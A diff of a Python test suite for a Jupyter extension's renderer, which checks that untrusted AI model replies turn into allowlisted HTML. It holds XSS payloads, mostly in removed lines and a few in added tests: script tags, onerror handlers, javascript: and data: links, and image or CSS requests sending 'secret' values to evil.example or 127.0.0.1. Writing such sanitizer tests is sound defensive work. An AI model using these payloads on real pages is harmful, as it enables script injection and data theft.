@@ -1,96 +1,128 @@
-"""Replies are untrusted: rendering them must never leave live HTML (SPEC 10).
+"""Replies are untrusted: the HTML they render to holds nothing live (SPEC 10).
 
-Each hostile reply is passed through `safe_markdown` and the result is judged the way
-a browser would meet it: re-parsed by markdown-it with raw HTML on (no HTML tokens, no
-forbidden link or image), and rendered to HTML and scanned with `html.parser` against
-a whitelist, both as plain CommonMark and after Jupyter's math protection.
+Every output of ``reply_html`` is checked by a strict allowlist that reads it the way a
+browser and Jupyter's MathJax would: only the tags and attributes Markdown makes, links
+only to http, https and mailto, no image unless its host was named, no class but
+Pygments' own, and no run of text that MathJax reads holding a TeX control word that
+makes links, attributes or requests. The browser half is ``browser/test_corpus_browser.py``.
 """
 
 from __future__ import annotations
 
-import html
 import re
 from html.parser import HTMLParser
+from urllib.parse import urlsplit
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
-from markdown_it.token import Token
 
-from yagpt_magic.render import _remove_math, _restore_math, safe_html, safe_markdown
+from yagpt_magic.render import (
+    _MARKUP,
+    _TEX_DANGER,
+    _code_css,
+    _markdown,
+    inline_html,
+    reply_bundle,
+    reply_html,
+    text_html,
+)
+from yagpt_magic.view import ReplyView, Table
 
-SAFE_TAGS = {
+from .hostile_corpus import corpus
+
+TAGS = {
     "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote",
     "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
-    "hr", "br", "del", "s", "img",
+    "hr", "br", "s", "del", "span", "div",
 }  # fmt: skip
-SAFE_ATTRS = {"href", "src", "alt", "title", "class", "start", "style"}
-
-
-def browser_parser() -> MarkdownIt:
-    """markdown-it standing in for marked: raw HTML on and no URL filtering."""
-    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-    md.validateLink = lambda url: True  # type: ignore[method-assign]
-    return md
-
-
-def scheme_ok(url: str) -> bool:
-    decoded = html.unescape(url)
-    for _ in range(3):
-        decoded = html.unescape(re.sub(r"%([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), decoded))
-    cleaned = re.sub(r"[\x00-\x20\x7f-\x9f\s]+", "", decoded).lower()
-    return cleaned.startswith(("http://", "https://", "mailto:"))
+PRESENTATIONAL = {"b", "i", "u", "sub", "sup", "details", "summary", "kbd", "mark", "small"}
+ATTRS = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"style"}, "td": {"style"},
+         "span": {"class"}, "pre": {"class"}, "div": {"class"}, "img": {"src", "alt", "title"}}
+# With allow_html: formatting attributes anywhere, styles that cannot fetch.
+OPT_IN_ATTRS = {"title", "lang", "dir", "style", "align", "colspan", "rowspan", "span", "open",
+                "type", "reversed", "start", "width", "height"}
+OPT_IN_STYLE = re.compile(
+    r"(?:(?:color|background-color|font-weight|font-style|font-size|text-align|text-decoration"
+    r"|vertical-align|white-space):[^;:()\\]*;?)*"
+)
+PYGMENTS = re.compile(r"[a-z0-9]{1,3}")
+WEB = ("http://", "https://", "mailto:")
+MATHJAX_SKIPS = {"code", "pre", "style"}
 
 
 def host_of(url: str) -> str:
-    match = re.match(r"https?://([^/?#]+)", url, re.I)
-    return match.group(1).lower() if match else ""
+    return (urlsplit(url).hostname or "") if url.lower().startswith("http") else ""
 
 
-def walk(tokens: list[Token]) -> list[Token]:
-    out: list[Token] = []
-    for token in tokens:
-        out.append(token)
-        out.extend(walk(token.children or []))
-    return out
+class Allowlist(HTMLParser):
+    """Every problem a fragment has: markup outside the allowlist, or risky TeX in text."""
 
-
-def token_problems(markdown: str, hosts: set[str], allow_html: bool = False) -> list[str]:
-    problems = []
-    for token in walk(browser_parser().parse(markdown)):
-        if token.type in ("html_block", "html_inline") and not allow_html:
-            problems.append(f"raw html {token.content!r}")
-        if token.type == "link_open" and not scheme_ok(str(token.attrGet("href"))):
-            problems.append(f"link {token.attrGet('href')!r}")
-        if token.type == "image" and host_of(str(token.attrGet("src"))) not in hosts:
-            problems.append(f"image {token.attrGet('src')!r}")
-    return problems
-
-
-class Scanner(HTMLParser):
-    """Collects every element, attribute and URL that falls outside the whitelist."""
-
-    def __init__(self, hosts: set[str]) -> None:
+    def __init__(self, hosts: set[str], allow_html: bool) -> None:
         super().__init__(convert_charrefs=True)
-        self.hosts = hosts
+        self.hosts, self.allow_html = hosts, allow_html
+        self.tags = TAGS | PRESENTATIONAL if allow_html else TAGS
         self.problems: list[str] = []
+        self.skipping: list[str] = []
+        self.run = ""  # the text MathJax reads as one string (it crosses <br>)
+
+    def flush(self) -> None:
+        if _TEX_DANGER.search(self.run):
+            self.problems.append(f"MathJax would read {self.run!r}")
+        self.run = ""
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag not in SAFE_TAGS:
+        if tag == "br":
+            return
+        self.flush()
+        if tag == "style":
+            self.skipping.append(tag)
+            return
+        if tag == "img" and not self.hosts:
+            self.problems.append("<img> with no image host named")
+        elif tag not in self.tags | {"img"}:
             self.problems.append(f"<{tag}>")
         for name, value in attrs:
             value = value or ""
-            if name.startswith("on") or name not in SAFE_ATTRS:
+            if name not in ATTRS.get(tag, set()) | (OPT_IN_ATTRS if self.allow_html else set()):
                 self.problems.append(f"{tag}[{name}]")
-            if name == "href" and not scheme_ok(value):
+            elif name == "style" and self.allow_html:
+                if not OPT_IN_STYLE.fullmatch(value.replace(" ", "")):
+                    self.problems.append(f"style={value!r}")
+            elif name == "href" and not value.lower().startswith(WEB):
                 self.problems.append(f"href={value!r}")
-            if name == "src" and (tag != "img" or host_of(value) not in self.hosts):
+            elif name == "src" and host_of(value) not in self.hosts:
                 self.problems.append(f"src={value!r}")
-            if name == "style" and not re.fullmatch(r"text-align:(left|right|center)", value):
+            elif name == "style" and value != "text-align:left" and not re.fullmatch(
+                r"text-align:(left|right|center)", value
+            ):
                 self.problems.append(f"style={value!r}")
+            elif name == "class" and not all(PYGMENTS.fullmatch(c) or c in (
+                "highlight", "yagpt-rendered") for c in value.split()):
+                self.problems.append(f"class={value!r}")
+            elif name == "rel" and value != "noopener noreferrer nofollow":
+                self.problems.append(f"rel={value!r}")
+        if tag in MATHJAX_SKIPS:
+            self.skipping.append(tag)
 
-    handle_startendtag = handle_starttag
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        if tag in MATHJAX_SKIPS:
+            self.skipping.pop()
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "br":
+            return
+        self.flush()
+        if tag in MATHJAX_SKIPS and self.skipping:
+            self.skipping.pop()
+
+    def handle_data(self, data: str) -> None:
+        if self.skipping and self.skipping[-1] == "style":
+            if data != _code_css()[len("<style>") : -len("</style>")]:
+                self.problems.append("a stylesheet that is not ours")
+        elif not self.skipping:
+            self.run += data
 
     def handle_comment(self, data: str) -> None:
         self.problems.append("comment")
@@ -101,252 +133,195 @@ class Scanner(HTMLParser):
     def handle_decl(self, decl: str) -> None:
         self.problems.append("declaration")
 
-
-def html_problems(rendered: str, hosts: set[str]) -> list[str]:
-    scanner = Scanner(hosts)
-    scanner.feed(rendered)
-    scanner.close()
-    return scanner.problems + (["unfinished markup"] if scanner.rawdata else [])
+    def unknown_decl(self, data: str) -> None:
+        self.problems.append("declaration")
 
 
-def all_problems(markdown: str, hosts: set[str] = frozenset()) -> list[str]:  # type: ignore[assignment]
-    md = browser_parser()
-    masked, math = _remove_math(markdown)
-    as_jupyter = _restore_math(md.render(masked), math, quote=False)  # as JupyterLab does
-    return (
-        token_problems(markdown, hosts)
-        + html_problems(md.render(markdown), hosts)
-        + html_problems(as_jupyter, hosts)
-    )
+def problems(fragment: str, hosts: set[str] | None = None, allow_html: bool = False) -> list[str]:
+    checker = Allowlist(hosts or set(), allow_html)
+    checker.feed(fragment)
+    checker.close()
+    checker.flush()
+    return checker.problems + (["unfinished markup"] if checker.rawdata else [])
 
 
-HOSTILE = [
-    "<script>alert(document.cookie)</script>",
-    "<img src=x onerror=alert(1)>",
-    "Hello <img src=x onerror='fetch(`/api/terminals`,{method:`POST`})'> there",
-    '<svg onload="alert(1)"><circle r="10"/></svg>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<details open ontoggle=alert(1)>x</details>",
-    "<body onload=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<style>body{background:url(https://evil.example/?q=secret)}</style>",
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<form action="https://evil.example"><button>Go</button></form>',
-    '<base href="https://evil.example/">',
-    '<a href="javascript:alert(1)">click</a>',
-    "<!-- hidden --><img src=x onerror=alert(1)><!-- -->",
-    "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[ x ]]>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](jav&#x61;script:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](<java\tscript:alert(1)>)",
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[vb](vbscript:msgbox(1))",
-    "[file](file:///etc/passwd) and [rel](../../api/terminals) and [frag](#x)",
-    "[a][ref] and [ref]\n\n[ref]: javascript:alert(1)\n",
-    "![pic][img]\n\n[img]: https://evil.example/?q=secret\n",
-    "<javascript:alert(1)> <vbscript:x> <data:text/html,hi>",
-    "![x](https://evil.example/?q=conversation-secret)",
-    '![x](javascript:alert(1) "t")',
-    "- item <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))\n",
-    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![](https://evil.example/p.png) |\n",
-    "> quoted <iframe src=javascript:alert(1)>\n> > [x](data:text/html,hi)\n",
-    "**<img src=x onerror=alert(1)>** _<b onmouseover=alert(1)>x</b>_",
-    "$<img src=x onerror=alert(1)>$",
-    "$$\n<script>alert(1)</script>\n$$",
-    "\\(<svg/onload=alert(1)>\\)",
-    '[x](<https://a.example/$" onmouseover="alert(1)$>)',
-    '![$" onerror="alert(1)$](https://evil.example/x.png)',
-    'https://a.example/$"onmouseover="alert(1)$',
-    '- ```$x"onmouseover="alert(1)$\n  code\n  ```\n',
-    '<a title="`"> x `<img src=x onerror=alert(1)>` y',
-    "<div>\n[a](javascript:alert(1))\n</div>",
-    "\\<img src=x onerror=alert(1)>",
-    "\\\\<img src=x onerror=alert(1)>",
-    "[outer [inner](javascript:alert(1))](https://ok.example)",
-    "[![img](https://evil.example/i.png)](javascript:alert(1))",
-    "<IMG SRC=x OnError=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "Visit ftp://evil.example/x",
-    "$[a](javascript:alert(1))$",
-    "$![x](https://evil.example/?q=secret)$",
-    "$$\n[a](data:text/html,hi)\n$$",
-]
+# -- the corpus -----------------------------------------------------------------------
 
-BENIGN = [
-    "# Title\n\nSome *emphasis*, **strong** and ~~gone~~ text.\n",
-    "```html\n<script>alert('shown, not run')</script>\n<img src=x onerror=1>\n```\n",
-    'Use `<div class="x">` for a box and `a < b` in code.',
-    "Inline math $a<b$ and $a<b, c>d$ and $x > y$ and $$\\sum_{i<n} i$$.",
-    "| col | other |\n|:---|---:|\n| 1 | *two* |\n| `x|y` | 4 |\n",
-    "1. one\n2. two\n   - nested\n   - list\n",
-    'See [the docs](https://example.com/docs?a=1&b=2 "Docs") or <https://example.com>.',
-    "Write to [us](mailto:team@example.com) or <team@example.com>.",
-    "> A quote\n> with **bold**\n>\n> - and a list\n",
-    "Plain http://example.com/page and www.example.com links.",
-    "    indented <code> block\n    with <tags>\n",
-    "Heading\n=======\n\nSub\n---\n\ntext * not emphasis * here\n",
-    "a < b and c > d, 3<4, x<-y",
-    "\\begin{align} a &< b \\end{align}",
-    "Escaped \\[not a link\\](x) and \\*stars\\*.",
-]
+CORPUS = corpus()
 
 
-@pytest.mark.parametrize("reply", HOSTILE)
-def test_hostile_reply_leaves_no_live_markup(reply: str) -> None:
-    out = safe_markdown(reply)
-    assert all_problems(out) == [], out
+def test_corpus_is_big_and_deterministic() -> None:
+    assert len(set(CORPUS)) >= 4000
+    assert corpus() == CORPUS
 
 
-@pytest.mark.parametrize("reply", HOSTILE)
-def test_hostile_reply_is_neutralised_not_dropped(reply: str) -> None:
-    # Defence in depth exists, but the corpus should not need the code-block fallback.
-    assert not safe_markdown(reply).startswith("```") or reply.startswith("- ```")
+def test_every_hostile_reply_renders_to_allowlisted_html() -> None:
+    failed = {}
+    for n, reply in enumerate(CORPUS):
+        found = problems(reply_html(reply))
+        if found:
+            failed[n] = (reply, found)
+    assert failed == {}
 
 
-@pytest.mark.parametrize("reply", HOSTILE)
-def test_hostile_reply_safe_html(reply: str) -> None:
-    assert html_problems(safe_html(reply), set()) == []
+def test_every_hostile_reply_is_safe_with_html_allowed_and_an_image_host() -> None:
+    # The leak host is named, so only images from it could load; none may run script.
+    for reply in CORPUS[::7]:
+        out = reply_html(reply, allow_html=True, image_hosts=["img.example"])
+        assert problems(out, {"img.example"}, allow_html=True) == [], reply
 
 
-@pytest.mark.parametrize("reply", BENIGN)
-def test_benign_reply_is_unchanged(reply: str) -> None:
-    assert safe_markdown(reply) == reply
+def test_the_replies_of_issue_13_are_text() -> None:
+    out = reply_html("[click me](<&#106;avascript:(window.__pwned=1)//<>)")
+    assert "<a" not in out and "javascript:(window.__pwned=1)" in out
+    out = reply_html("[also me](javascript&#58;(window.__pwned2=1)//(")
+    assert "<a" not in out and "[also me](javascript:" in out
+    out = reply_html("![chart](<&#104;ttp://127.0.0.1:9/leak.png?q=SECRET<>)")
+    assert "<a" not in out and "<img" not in out
 
 
-def test_corpus_size() -> None:
-    assert len(HOSTILE) >= 30 and len(BENIGN) >= 10
+# -- what benign replies look like ----------------------------------------------------
 
 
-def test_raw_html_is_shown_as_text() -> None:
-    out = safe_markdown("a <b>bold</b> word")
-    assert out == "a &lt;b>bold&lt;/b> word"
-    assert "&lt;b&gt;bold&lt;/b&gt;" in browser_parser().render(out)
+def test_markdown_renders() -> None:
+    out = reply_html("# Title\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n- a\n- b\n")
+    for part in ("<h1>Title</h1>", "<em>em</em>", "<strong>strong</strong>", "<s>gone</s>",
+                 "<code>code</code>", "<li>a</li>"):
+        assert part in out
 
 
-def test_forbidden_link_shows_its_text_and_target() -> None:
-    out = safe_markdown("[click](javascript:alert(1))")
-    assert out == "&#91;click&#93;(javascript:alert(1))"
-    assert browser_parser().render(out) == "<p>[click](javascript:alert(1))</p>\n"
+def test_links_keep_only_web_and_mail_targets() -> None:
+    out = reply_html("[ok](https://example.com/a?b=1&c=2) [bad](javascript:x) <team@example.com>")
+    assert ('<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">'
+            "ok</a>") in out
+    assert "[bad](javascript:x)" in out and 'href="mailto:team@example.com"' in out
+    assert 'href="http://www.example.com"' in reply_html("see www.example.com")
 
 
-def test_image_becomes_link_showing_its_address() -> None:
-    assert safe_markdown("![chart](https://host.example/c.png)") == (
-        "[\N{FRAME WITH PICTURE} chart](https://host.example/c.png) `https://host.example/c.png`"
-    )
-    assert safe_markdown("![x](https://h.example/`a`.png)").endswith(
-        " `https://h.example/%60a%60.png`")
+def test_raw_html_is_text_unless_allowed() -> None:
+    assert "&lt;b&gt;bold&lt;/b&gt;" in reply_html("a <b>bold</b> word")
+    out = reply_html('a <b onclick="x()">bold</b> <img src=x onerror=y()>', allow_html=True)
+    assert "<b>bold</b>" in out and "onclick" not in out and "onerror" not in out
+    assert "<img" not in out
 
 
-def test_image_hosts_let_named_hosts_load() -> None:
+def test_images_become_links_unless_their_host_is_named() -> None:
     reply = "![chart](https://img.example/c.png)"
-    assert safe_markdown(reply, image_hosts=["IMG.example"]) == reply
-    assert all_problems(reply, {"img.example"}) == []
-    assert safe_markdown(reply, image_hosts=["other.example"]) != reply
-    assert safe_markdown(reply, image_hosts="img.example") == reply
+    assert reply_html(reply) == (
+        '<div class="yagpt-rendered"><p><a href="https://img.example/c.png" '
+        'rel="noopener noreferrer nofollow">image: chart</a> '
+        "<code>https://img.example/c.png</code></p>\n</div>"
+    )
+    assert '<img src="https://img.example/c.png" alt="chart">' in reply_html(
+        reply, image_hosts=["IMG.example"])
+    assert "<img" in reply_html(reply, image_hosts="img.example")
+    assert "<img" not in reply_html(reply, image_hosts=["other.example"])
 
 
-@pytest.mark.parametrize(
-    "url",
-    [
-        "https://img.example@evil.example/c.png",
-        "https://evil.example/img.example/c.png",
-        "https://img.example.evil.example/c.png",
-        "ftp://img.example/c.png",
-        "javascript:alert(1)//img.example",
-    ],
-)
+@pytest.mark.parametrize("url", [
+    "https://img.example@evil.example/c.png",
+    "https://evil.example/img.example/c.png",
+    "https://img.example.evil.example/c.png",
+    "ftp://img.example/c.png",
+    "//img.example/c.png",
+])
 def test_image_hosts_match_the_real_host(url: str) -> None:
-    out = safe_markdown(f"![x]({url})", image_hosts=["img.example"])
-    assert not out.startswith("!")
-    assert all_problems(out, {"img.example"}) == []
+    for reply in (f"![x]({url})", f'<img src="{url}">'):
+        out = reply_html(reply, allow_html=True, image_hosts=["img.example"])
+        assert problems(out, {"img.example"}, allow_html=True) == []
+        assert "src=" not in out
 
 
-def test_image_host_with_math_in_alt_is_not_kept() -> None:
-    out = safe_markdown('![$" onerror="x$](https://img.example/a.png)', image_hosts=["img.example"])
-    assert all_problems(out, {"img.example"}) == []
-
-
-def test_allow_html_keeps_harmless_html() -> None:
-    reply = 'Some <b>bold</b> and <span title="t">span</span>\n\n<div>\nblock\n</div>\n'
-    assert safe_markdown(reply, allow_html=True) == reply
-
-
-@pytest.mark.parametrize(
-    "reply",
-    [
-        "<img src=x onerror=alert(1)>",
-        '<a href="javascript:alert(1)">x</a>',
-        "<b onmouseover=alert(1)>x</b>",
-        "<script>alert(1)</script>",
-        '<img src="https://evil.example/?q=secret">',
-        "<div\n\nstyle=x>",
-        "[x](javascript:alert(1)) <b>ok</b>",
-    ],
-)
-def test_allow_html_still_blocks_scripts_links_and_images(reply: str) -> None:
-    out = safe_markdown(reply, allow_html=True)
-    for rendered in (browser_parser().render(out), safe_html(reply, allow_html=True)):
-        scanner = Scanner(set())
-        scanner.feed(rendered)
-        bad = [p for p in scanner.problems if not p.startswith(("<b>", "<div>", "<span>"))]
-        assert bad == [], rendered
-
-
-def test_allow_html_image_from_named_host() -> None:
-    reply = '<img src="https://img.example/a.png" alt="a">'
-    assert safe_markdown(reply, allow_html=True, image_hosts=["img.example"]) == reply
-    assert safe_markdown(reply, allow_html=True) != reply
-
-
-def test_math_hiding_html_is_defused_without_changing_tex() -> None:
-    assert safe_markdown("$a<b>c$") == "$a< b>c$"
-    assert safe_markdown("$a<b$") == "$a<b$"
-
-
-def test_safe_html_keeps_math_for_mathjax() -> None:
-    out = safe_html("Area $\\pi r^2$ and *em* with $a<b$")
+def test_math_stays_text_for_mathjax() -> None:
+    out = reply_html("Area $\\pi r^2$, *em*, $a<b$ and\n\n$$\n\\sum_i x_i\n$$\n")
     assert "$\\pi r^2$" in out and "<em>em</em>" in out and "$a&lt;b$" in out
+    assert "<div>$$\n\\sum_i x_i\n$$</div>" in out
+    assert "\\begin{align} a &amp;= b \\end{align}" in reply_html(
+        "\\begin{align} a &= b \\end{align}")
 
 
-def test_safe_html_renders_markdown() -> None:
-    out = safe_html("# T\n\n[ok](https://example.com) [bad](javascript:x) <i>raw</i>")
-    assert '<a href="https://example.com">ok</a>' in out
-    assert "javascript:x" in out and 'href="javascript' not in out
-    assert "&lt;i&gt;raw&lt;/i&gt;" in out
+def test_math_with_a_risky_macro_is_shown_as_code() -> None:
+    out = reply_html("see $\\href{javascript:alert(1)}{x}$ and $y$")
+    assert "<code>$\\href{javascript:alert(1)}{x}$</code> and $y$" in out
+    # Text MathJax would read as math though markdown-it did not: only the word moves.
+    assert "\\(<code>\\class</code>{a}{b}\\)" in reply_html("\\\\(\\class{a}{b}\\\\)")
+    assert "<code>\\href" in reply_html("&#36;&#92;href{javascript:x}{y}&#36;")
 
 
-def test_unfixable_reply_falls_back_to_a_code_block() -> None:
-    # A reference link hidden in math cannot be broken without changing the TeX.
-    reply = "$[a][r]$\n\n[r]: javascript:alert(1)"
-    out = safe_markdown(reply)
-    assert out.startswith("```\n") and reply in out
-    assert all_problems(out) == []
+def test_code_is_highlighted_with_theme_colours() -> None:
+    out = reply_html("```python\nimport os  # hi $x$\n```\n")
+    assert out.startswith('<div class="yagpt-rendered"><style>')
+    assert '<pre class="highlight"><code><span class="kn">import</span>' in out
+    assert "var(--jp-mirror-editor-keyword-color)" in out
+    plain = reply_html("```nosuchlanguage\n<b>x</b>\n```")
+    assert "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>" in plain and "<style>" not in plain
 
 
-def test_line_endings_are_normalised() -> None:
-    assert safe_markdown("a\r\nb\rc") == "a\nb\nc"
+def test_tables_keep_their_alignment() -> None:
+    out = reply_html("| a | b |\n|:-|-:|\n| 1 | *2* |")
+    assert '<th style="text-align:left">a</th>' in out
+    assert '<td style="text-align:right"><em>2</em></td>' in out
 
+
+def test_bundle_is_html_and_the_exact_text() -> None:
+    reply = "Hi <b>*there*</b>\r\n"
+    assert reply_bundle(reply) == {"text/html": reply_html(reply), "text/plain": reply}
+    assert "text/markdown" not in reply_bundle(reply)
+
+
+def test_reply_view_and_table_bundles_are_html() -> None:
+    view = ReplyView(text="**hi** <script>x</script>", interrupted=True)
+    data, _ = view._repr_mimebundle_()
+    assert set(data) == {"text/plain", "text/html"}
+    assert "<strong>hi</strong>" in data["text/html"] and "<script>" not in data["text/html"]
+    assert "<p><em>⚠ Interrupted" in data["text/html"]
+    waiting = ReplyView(waiting="Waiting for <model>…")._repr_mimebundle_()[0]
+    assert waiting["text/html"] == "<p><em>Waiting for &lt;model&gt;…</em></p>"
+    table = Table(("n", "reply"), [(1, "*hi* <b>x</b> $\\href{j}{x}$")], "T <i>", ("reply",))
+    html = table._repr_mimebundle_()["text/html"]
+    assert "<em>hi</em> &lt;b&gt;x&lt;/b&gt;" in html and "<strong>T &lt;i&gt;</strong>" in html
+    assert problems(html) == []
+    assert text_html("$\\style{x}{y}$ <i>") == "$<code>\\style</code>{x}{y}$ &lt;i&gt;"
+    assert problems(inline_html("![i](https://x.example/i.png) [a](javascript:x)")) == []
+
+
+def test_line_endings_and_nul() -> None:
+    assert reply_html("a\r\nb\rc\0") == '<div class="yagpt-rendered"><p>a\nb\nc\ufffd</p>\n</div>'
+
+
+# -- properties -------------------------------------------------------------------------
 
 MARKUP_ALPHABET = st.sampled_from(
-    list("<>/![]()`$\\\"'=:*_#|-~&;@{}\n \t")
-    + ["img", "script", "onerror", "javascript", "https://", "www.", "a", "b", "x", "1"]
-    + ["\\(", "\\[", "\\begin{a}", "```", "    ", "> ", "- ", "@@0@@", "&#x61;", "data:"]
+    list("<>/![]()`$\\\"'=:*_#|-~&;@{}\n \t") + [
+        "img", "script", "onerror", "javascript", "https://", "www.", "a", "b", "x", "1",
+        "\\(", "\\[", "\\begin{a}", "```", "    ", "> ", "- ", "&#x61;", "&#92;", "&#36;",
+        "data:", "\\href", "\\style", "\\class", "\\unicode", "\\require", "\\bbox", "svg",
+        "math", "onload", "<a href=", "<img src=", "127.0.0.1", "\r\n", "| --- |",
+    ]
 )
+
+
+@settings(max_examples=600, deadline=None)
+@given(st.lists(MARKUP_ALPHABET, max_size=40).map("".join))
+def test_any_markup_renders_to_allowlisted_html(text: str) -> None:
+    assert problems(reply_html(text)) == []
+    assert problems(reply_html(text, allow_html=True), allow_html=True) == []
+    assert problems(inline_html(text)) == problems(text_html(text)) == []
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=120))
+def test_any_unicode_text_renders_to_allowlisted_html(text: str) -> None:
+    assert problems(reply_html(text)) == []
+
+
+PLAIN = st.text(st.sampled_from(list("abc XYZ.,;:!?()'\"%/\nжё1")), max_size=80)
 
 
 @settings(max_examples=400, deadline=None)
-@given(st.lists(MARKUP_ALPHABET, max_size=40).map("".join))
-def test_any_text_renders_safely(text: str) -> None:
-    out = safe_markdown(text)
-    assert all_problems(out) == [], out
-    assert html_problems(safe_html(text), set()) == []
-    assert safe_markdown(out) == out  # showing a transcript again changes nothing
-
-
-@settings(max_examples=200, deadline=None)
-@given(st.text(max_size=80))
-def test_any_unicode_text_renders_safely(text: str) -> None:
-    assert all_problems(safe_markdown(text)) == []
+@given(PLAIN)
+def test_plain_text_fast_path_matches_markdown_it(text: str) -> None:
+    source = text.replace("\r\n", "\n")
+    if _MARKUP.search(source) is None:
+        body = reply_html(text)[len('<div class="yagpt-rendered">') : -len("</div>")]
+        assert body == _markdown(False).render(source, {"image_hosts": frozenset()})
